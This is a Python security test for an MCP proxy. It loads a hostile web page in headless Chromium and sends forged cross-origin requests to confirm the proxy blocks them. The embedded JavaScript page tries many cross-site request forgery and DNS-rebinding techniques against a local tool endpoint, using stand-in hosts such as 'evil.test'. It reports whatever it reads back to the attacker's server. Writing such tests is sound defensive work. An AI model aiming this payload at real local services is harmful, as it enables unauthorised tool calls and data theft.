"""A hostile page in a real browser changes nothing and reads nothing (test 46)."""

import json
import os
import shutil
import signal
import subprocess
import threading
import unittest

from http_support import ProxyTest, answering, call, chunk, get, json_answer, ours, post, SSE_HEAD
from support import PATIENCE, measured

BROWSER = shutil.which("chromium-headless-shell") or shutil.which("chromium")
SECRET = "the-answer-of-the-server"

# Tries everything that a page may try, and tells its own server what it could read.
PAGE = """<!doctype html><title>hostile</title><body><script>
const targets = [HOSTS].map(h => `http://${h}:PORT/mcp`);
const call = JSON.stringify({jsonrpc: "2.0", id: 1, method: "tools/call", params: {name: "x"}});
const seen = [];
const tried = [];
async function attempt(name, work) {
  tried.push(name);
  try { const got = await Promise.race([work(), new Promise(r => setTimeout(r, 1500, "timeout"))]); seen.push([name, String(got)]); }
  catch (e) { seen.push([name, "error"]); }
}
const element = (tag, fields) => new Promise(done => {
  const e = Object.assign(document.createElement(tag), fields);
  e.onload = () => done("load"); e.onerror = () => done("error"); document.body.append(e); });
async function all() {
  for (const url of targets) {
    for (const type of ["text/plain", "application/x-www-form-urlencoded", "application/json"])
      for (const mode of ["cors", "no-cors"])
        await attempt(`fetch ${type} ${mode} ${url}`, async () => {
          const r = await fetch(url, {method: "POST", mode, body: call, headers: {"Content-Type": type}}); return await r.text(); });
    await attempt(`get ${url}`, async () => (await fetch(url)).text());
    await attempt(`get no-cors ${url}`, async () => (await fetch(url, {mode: "no-cors"})).text());
    await attempt(`delete ${url}`, async () => (await fetch(url, {method: "DELETE"})).text());
    await attempt(`with session ${url}`, async () => (await fetch(url, {method: "POST", body: call, headers: {"Mcp-Session-Id": "1"}})).text());
    await attempt(`image ${url}`, () => element("img", {src: url}));
    await attempt(`script ${url}`, () => element("script", {src: url}));
    await attempt(`beacon ${url}`, async () => navigator.sendBeacon(url, call));
    await attempt(`events ${url}`, () => new Promise((ok, no) => {
      const s = new EventSource(url); s.onmessage = e => ok(e.data); s.onerror = () => { s.close(); no(); }; }));
    await attempt(`socket ${url}`, () => new Promise((ok, no) => {
      const s = new WebSocket(url.replace("http", "ws")); s.onopen = () => ok("open"); s.onerror = no; }));
    await attempt(`form ${url}`, () => new Promise(done => {
      const frame = document.createElement("iframe"); frame.name = "f" + tried.length; document.body.append(frame);
      const form = document.createElement("form"); form.method = "POST"; form.action = url; form.target = frame.name;
      form.enctype = "text/plain"; const input = document.createElement("input"); input.name = call; form.append(input);
      document.body.append(form); frame.onload = () => { try { done(frame.contentDocument.body.innerText); } catch (e) { done("hidden"); } };
      form.submit(); }));
  }
  await fetch("/report", {method: "POST", body: JSON.stringify(seen)});
}
all();
</script>"""


class HostilePage(ProxyTest):
    def setUp(self):
        super().setUp()
        self.reached = []

    def respond(self, request):
        self.reached.append(request)
        if request.method == "GET":
            return SSE_HEAD + chunk(b"data: " + SECRET.encode() + b"\n\n") + b"0\r\n\r\n"
        return json_answer({"jsonrpc": "2.0", "id": 1, "result": SECRET})

    def changes(self):
        return [request.raw_head for request in self.reached if request.method not in ("GET", "HEAD", "OPTIONS")]

    @ours
    def test_requests_as_pages_send_them_change_nothing(self):
        proxy = self.proxy(self.origin(answering(self.respond)))
        host = b"127.0.0.1:%d" % proxy.port
        cross = b"Sec-Fetch-Site: cross-site\r\n"
        for origin in (b"http://evil.test", b"null", b"https://evil.test"):
            for kind in (b"text/plain", b"application/x-www-form-urlencoded", b"multipart/form-data; boundary=x", b"application/json"):
                with self.subTest(origin, kind=kind):
                    request = post(call(1), host=host, extra=b"Origin: " + origin + b"\r\n" + cross)
                    request = request.replace(b"Content-Type: application/json", b"Content-Type: " + kind)
                    answer = self.connect(proxy).exchange(request)
                    self.assertEqual(answer.status, 403)
                    self.assertNotIn(SECRET.encode(), answer.body)
        for extra in (b"Origin: http://evil.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: eA==\r\n"
                      b"Sec-WebSocket-Version: 13\r\n", b"Origin: http://evil.test\r\nAccept: text/event-stream\r\n"):
            self.assertEqual(self.connect(proxy).exchange(get(host=host, extra=extra + cross)).status, 403)
        preflight = (b"OPTIONS /mcp HTTP/1.1\r\nHost: " + host + b"\r\nOrigin: http://evil.test\r\n"
                     b"Access-Control-Request-Method: POST\r\nAccess-Control-Request-Headers: mcp-session-id\r\n\r\n")
        answer = self.connect(proxy).exchange(preflight)
        self.assertEqual(answer.status, 403)
        self.assertEqual([n for n, _ in answer.fields if n.lower().startswith("access-control")], [])
        self.assertEqual(self.changes(), [])

    @ours
    @unittest.skipUnless(BROWSER, "no browser here")
    def test_a_page_in_a_browser_changes_nothing_and_reads_nothing(self):
        proxy = self.proxy(self.origin(answering(self.respond)))
        told = []
        done = threading.Event()
        hosts = '"127.0.0.1", "localhost", "evil.test", "rebound.test"'
        page = PAGE.replace("HOSTS", hosts).replace("PORT", str(proxy.port)).encode()

        def serve(request):
            if request.method == "POST":
                told.extend(request.json())
                done.set()
                return b"HTTP/1.1 204 No Content\r\n\r\n"
            return b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: %d\r\n\r\n" % len(page) + page

        attacker = self.origin(answering(serve))
        browser = self.spawn([BROWSER, "--no-sandbox", "--disable-gpu", "--no-first-run", f"--user-data-dir={self.home}/browser",
                              "--host-resolver-rules=MAP evil.test 127.0.0.1, MAP rebound.test 127.0.0.1", "--remote-debugging-port=0",
                              f"http://evil.test:{attacker.port}/"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, process_group=0)
        self.assertTrue(done.wait(3 * PATIENCE), "the page reports")
        os.killpg(browser.pid, signal.SIGKILL)  # It is a family of processes.
        browser.wait()
        self.assertGreater(len(told), 40)
        read = [row for row in told if SECRET in row[1] or row[1] == "open"]
        measured(f"a hostile page tried {len(told)} ways; {len(read)} could read, {len(self.changes())} could change")
        self.assertEqual(read, [])
        self.assertEqual(self.changes(), [], json.dumps(told))
